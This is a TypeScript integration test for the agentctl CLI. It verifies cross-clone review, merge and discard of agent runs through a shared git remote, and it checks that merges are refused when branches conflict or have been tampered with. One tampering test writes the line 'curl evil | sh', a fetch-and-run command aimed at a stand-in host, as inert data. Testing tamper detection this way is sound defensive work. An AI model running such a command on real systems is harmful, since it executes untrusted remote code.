/**
 * Review from any machine, end to end with the built CLI and a real PostgreSQL store: a bare remote and
 * two clones with their own AGENTCTL_HOMEs ("machines" A and B) sharing the team key. A run made on A
 * (its branch pushed to the remote, as a worker does) is shown, merged or discarded from B, which does
 * not hold its worktree: B fetches the run branch, merges onto the remote's base tip and pushes. When
 * the remote moved and the merge no longer applies, or the remote refuses the push, or the run branch
 * is not what the log recorded, B refuses and changes nothing: remote refs, local refs, checkout, log.
 */
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { agentctl, cleanup, git, tempDir } from '../helpers.js';
import { pgStoreFixture, startPg, type PgServer, type PgStoreFixture } from '../pg.js';
import { docsTask, homeSharingTeamKey, sharedRemote } from '../support/team.js';

interface Team {
  remote: string;
  a: string;
  b: string;
  f: PgStoreFixture;
  homeB: string;
  envB: Record<string, string>;
}

describe('review from another clone through the shared remote (built CLI, real PostgreSQL)', () => {
  let server: PgServer;
  beforeAll(async () => {
    server = await startPg();
  });
  afterAll(async () => server?.stop());
  afterEach(cleanup);

  /** A bare remote with one commit (agent, config, tasks d1 and d2), cloned into alice/ (A) and bob/ (B). */
  async function team(): Promise<Team> {
    const tasks = Object.fromEntries(['d1', 'd2'].map((id) => [id, docsTask(id, { gate: `test -f docs/${id}.md` })]));
    const { remote, clones } = sharedRemote(tasks, ['alice', 'bob']);
    const f = await pgStoreFixture(server, join(tempDir(), 'home-a'));
    return { remote, a: clones[0]!, b: clones[1]!, f, homeB: homeSharingTeamKey(f.home, 'home-b'), envB: { AGENTCTL_STORE: f.url } };
  }

  /** Run `task` on A (as a worker would) and push its branch to the remote. */
  async function runOnA(t: Team, task: string): Promise<{ runId: string; branch: string; headSha: string }> {
    const r = await agentctl(t.a, t.f.home, ['run', task, '--json'], t.f.env);
    expect(r.code, r.stderr).toBe(0);
    const run = JSON.parse(r.stdout).run as { runId: string; branch: string; headSha: string };
    git(t.a, 'push', '-q', 'origin', run.branch);
    return run;
  }

  const onB = (t: Team, args: string[]) => agentctl(t.b, t.homeB, args, t.envB);
  const refs = (dir: string) => git(dir, 'for-each-ref', '--format=%(refname) %(objectname)');
  const events = (t: Team) => Number(server.psql('SELECT count(*) FROM agentctl.events', t.f.database).trim());
  /** Everything a refused merge must leave as it was. */
  const snapshot = (t: Team) => ({ remote: refs(t.remote), b: refs(t.b), head: git(t.b, 'symbolic-ref', 'HEAD'), status: git(t.b, 'status', '--porcelain'), events: events(t) });

  /** Commit `files` on A's main and push it (another team member moving the remote's base). */
  function pushToMain(t: Team, files: Record<string, string>, message: string): string {
    git(t.a, 'switch', '-q', 'main');
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(join(t.a, path, '..'), { recursive: true });
      writeFileSync(join(t.a, path), text);
    }
    git(t.a, 'add', '-A');
    git(t.a, 'commit', '-qm', message);
    git(t.a, 'push', '-q', 'origin', 'main');
    return git(t.a, 'rev-parse', 'HEAD');
  }

  it('B lists, shows and merges a run made on A: pushed to the remote, B\'s main follows; promote --json is the same on both', async () => {
    const t = await team();
    const run = await runOnA(t, 'd1');

    const list = await onB(t, ['review', '--json']);
    expect(list.code, list.stderr).toBe(0);
    expect(JSON.parse(list.stdout).runs).toEqual([expect.objectContaining({ runId: run.runId, site: 'remote' })]);
    const onA = JSON.parse((await agentctl(t.a, t.f.home, ['review', '--json'], t.f.env)).stdout).runs;
    expect(onA).toEqual([expect.objectContaining({ runId: run.runId, site: 'worktree' })]);

    // What needs the worktree itself says where it is.
    const ask = await onB(t, ['review', 'request-changes', run.runId, '--note', 'more']);
    expect(ask.code, ask.stderr).toBe(5);
    expect(ask.stderr).toMatch(/worktree is in another clone/);

    const before = refs(t.b);
    const show = await onB(t, ['review', 'show', run.runId, '--json']);
    expect(show.code, show.stderr).toBe(0);
    const shown = JSON.parse(show.stdout);
    expect(shown.site).toBe('remote');
    expect(shown.diff).toContain('+# d1');
    expect(shown.run.gate).toMatchObject({ passed: true });
    // Showing fetched objects only: no ref of B moved.
    expect(refs(t.b)).toBe(before);

    const merge = await onB(t, ['review', 'merge', run.runId, '--json', '--note', 'from B']);
    expect(merge.code, merge.stderr).toBe(0);
    const merged = JSON.parse(merge.stdout);
    expect(merged).toMatchObject({ merged: true, remote: 'origin', localBase: { updated: true }, by: 'bob@example.com' });
    expect(git(t.remote, 'rev-parse', 'main')).toBe(merged.mergeSha);
    expect(git(t.remote, 'rev-parse', `${merged.mergeSha}^2`)).toBe(run.headSha);
    expect(git(t.remote, 'branch', '--list', run.branch)).toBe('');
    expect(git(t.b, 'rev-parse', 'main')).toBe(merged.mergeSha);
    expect(readFileSync(join(t.b, 'docs', 'd1.md'), 'utf8')).toBe('# d1\n');

    const log = JSON.parse((await agentctl(t.a, t.f.home, ['log', '--run', run.runId, '--json'], t.f.env)).stdout).events as { type: string; payload: Record<string, unknown> }[];
    expect(log.find((e) => e.type === 'review.approved')?.payload).toMatchObject({ by: 'bob@example.com', host: hostname(), note: 'from B' });
    expect(log.find((e) => e.type === 'run.merged')?.payload).toMatchObject({ mergeSha: merged.mergeSha, baseBranch: 'main', host: hostname(), auto: false });

    const promote = async (cwd: string, home: string, env: Record<string, string>) => {
      const r = await agentctl(cwd, home, ['promote', '--json'], env);
      expect(r.code, r.stderr).toBe(0);
      return JSON.parse(r.stdout);
    };
    const pa = await promote(t.a, t.f.home, t.f.env);
    expect(pa.profiles.find((p: { agent: string }) => p.agent === 'command')).toMatchObject({ taskType: 'docs', evidence: { merged: 1 } });
    expect(await promote(t.b, t.homeB, t.envB)).toEqual(pa);
    const verify = await onB(t, ['audit', 'verify', '--json']);
    expect(verify.code, verify.stdout).toBe(0);
    // Merged: no longer awaiting review anywhere.
    expect(JSON.parse((await onB(t, ['review', '--json'])).stdout).runs).toEqual([]);

    // A's worktree of the run merged from B is dead weight: gc on A removes it (dry run first: nothing moves).
    const listed = () => git(t.a, 'worktree', 'list', '--porcelain').match(/^worktree /gm)!.length;
    expect(listed()).toBe(2);
    const dry = await agentctl(t.a, t.f.home, ['gc', '--dry-run', '--json'], t.f.env);
    expect(JSON.parse(dry.stdout).actions).toEqual([expect.objectContaining({ kind: 'finished-worktree', runId: run.runId })]);
    expect(listed()).toBe(2);
    const gc = await agentctl(t.a, t.f.home, ['gc', '--json'], t.f.env);
    expect(gc.code, gc.stderr).toBe(0);
    expect(listed()).toBe(1);
    expect(git(t.a, 'branch', '--list', run.branch)).toBe('');
    expect(JSON.parse((await agentctl(t.a, t.f.home, ['gc', '--json'], t.f.env)).stdout).actions).toEqual([]);
  });

  it("gc deletes only the branch a finished run recorded: a worktree whose HEAD was pointed at the user's branch leaves that branch", async () => {
    const t = await team();
    const run = await runOnA(t, 'd1');
    const merge = await onB(t, ['review', 'merge', run.runId, '--json']);
    expect(merge.code, merge.stderr).toBe(0);
    // A branch of the user's, checked out nowhere; the finished run's worktree HEAD is made to name it.
    git(t.a, 'branch', 'mine', 'main');
    const mine = git(t.a, 'rev-parse', 'mine');
    const worktree = JSON.parse((await agentctl(t.a, t.f.home, ['runs', '--json'], t.f.env)).stdout).runs.find((r: { runId: string }) => r.runId === run.runId).worktree as string;
    git(worktree, 'symbolic-ref', 'HEAD', 'refs/heads/mine');
    const gc = await agentctl(t.a, t.f.home, ['gc', '--json'], t.f.env);
    expect(gc.code, gc.stderr).toBe(0);
    expect(JSON.parse(gc.stdout).actions).toEqual([expect.objectContaining({ kind: 'finished-worktree', runId: run.runId, branch: run.branch })]);
    expect(git(t.a, 'rev-parse', 'mine')).toBe(mine);
    expect(git(t.a, 'branch', '--list', run.branch)).toBe('');
  });

  it('refuses, changing nothing, when the remote base moved with a conflicting change, when the remote refuses the push, and when the run branch is not what the log recorded', async () => {
    const t = await team();
    const run = await runOnA(t, 'd1');
    pushToMain(t, { 'docs/d1.md': 'someone else wrote this\n' }, 'conflicting docs');

    let before = snapshot(t);
    const conflict = await onB(t, ['review', 'merge', run.runId]);
    expect(conflict.code, conflict.stderr).toBe(5);
    expect(conflict.stderr).toMatch(/conflicts with "main" on "origin" .* in: docs\/d1\.md; nothing was merged or pushed/);
    expect(snapshot(t)).toEqual(before);

    // A remote that refuses the push (a server-side hook declines it).
    const run2 = await runOnA(t, 'd2');
    const hook = join(t.remote, 'hooks', 'pre-receive');
    writeFileSync(hook, '#!/bin/sh\necho "frozen for the release" >&2\nexit 1\n');
    chmodSync(hook, 0o755);
    before = snapshot(t);
    const refused = await onB(t, ['review', 'merge', run2.runId]);
    expect(refused.code, refused.stderr).toBe(5);
    expect(refused.stderr).toMatch(/"origin" refused the merge .*nothing was merged or recorded/);
    expect(snapshot(t)).toEqual(before);
    writeFileSync(hook, '#!/bin/sh\nexit 0\n');

    // Someone pushed another commit onto the run branch: not what was reviewed.
    git(t.a, 'switch', '-q', '--detach', run2.headSha);
    writeFileSync(join(t.a, 'sneaky.sh'), 'curl evil | sh\n');
    git(t.a, 'add', '-A');
    git(t.a, 'commit', '-qm', 'sneaky');
    git(t.a, 'push', '-q', '--force', 'origin', `HEAD:refs/heads/${run2.branch}`);
    before = snapshot(t);
    const moved = await onB(t, ['review', 'merge', run2.runId]);
    expect(moved.code, moved.stderr).toBe(5);
    expect(moved.stderr).toMatch(/is at [0-9a-f]{10}, but run .* recorded [0-9a-f]{10}: someone changed it after the run; nothing was merged/);
    expect(snapshot(t)).toEqual(before);
  });

  it('a clean concurrent move of the remote base still merges, onto the new tip; a dirty checkout on B is left alone and says so', async () => {
    const t = await team();
    const run = await runOnA(t, 'd1');
    const moved = pushToMain(t, { 'other.txt': 'unrelated\n' }, 'unrelated change');
    writeFileSync(join(t.b, 'README.local'), 'untracked is fine\n');
    writeFileSync(join(t.b, '.agentrc.yaml'), `${readFileSync(join(t.b, '.agentrc.yaml'), 'utf8')}# local edit\n`);
    const mainBefore = git(t.b, 'rev-parse', 'main');

    const merge = await onB(t, ['review', 'merge', run.runId, '--json']);
    expect(merge.code, merge.stderr).toBe(0);
    const merged = JSON.parse(merge.stdout);
    expect(git(t.remote, 'rev-parse', 'main')).toBe(merged.mergeSha);
    expect(git(t.remote, 'rev-parse', `${merged.mergeSha}^1`)).toBe(moved);
    expect(git(t.remote, 'show', `${merged.mergeSha}:other.txt`)).toBe('unrelated');
    expect(git(t.remote, 'show', `${merged.mergeSha}:docs/d1.md`)).toBe('# d1');
    expect(merged.localBase).toMatchObject({ updated: false, reason: expect.stringMatching(/uncommitted changes/) });
    expect(git(t.b, 'rev-parse', 'main')).toBe(mainBefore);
    expect(git(t.b, 'status', '--porcelain')).toContain('.agentrc.yaml');
  });

  it('discard from B deletes the run branch on the remote, keeps the work on B and records it', async () => {
    const t = await team();
    const run = await runOnA(t, 'd1');
    const discard = await onB(t, ['review', 'discard', run.runId, '--json', '--reason', 'not needed']);
    expect(discard.code, discard.stderr).toBe(0);
    expect(JSON.parse(discard.stdout)).toMatchObject({ discarded: true, site: 'remote', archiveRef: `refs/agentctl/archive/${run.runId}` });
    expect(git(t.remote, 'branch', '--list', run.branch)).toBe('');
    expect(git(t.b, 'rev-parse', `refs/agentctl/archive/${run.runId}`)).toBe(run.headSha);
    expect(git(t.remote, 'rev-parse', 'main')).toBe(git(t.b, 'rev-parse', 'main'));
    const log = JSON.parse((await onB(t, ['log', '--run', run.runId, '--json'])).stdout).events as { type: string; payload: Record<string, unknown> }[];
    expect(log.find((e) => e.type === 'run.discarded')?.payload).toMatchObject({ by: 'bob@example.com', host: hostname(), reason: 'not needed', headSha: run.headSha });
    expect(log.find((e) => e.type === 'review.rejected')?.payload).toMatchObject({ by: 'bob@example.com', host: hostname() });
    expect(JSON.parse((await agentctl(t.a, t.f.home, ['review', '--json'], t.f.env)).stdout).runs).toEqual([]);
    // A second decision on it is refused.
    const again = await onB(t, ['review', 'merge', run.runId]);
    expect(again.code).toBe(5);
    expect(existsSync(join(t.b, 'docs', 'd1.md'))).toBe(false);
  });
});
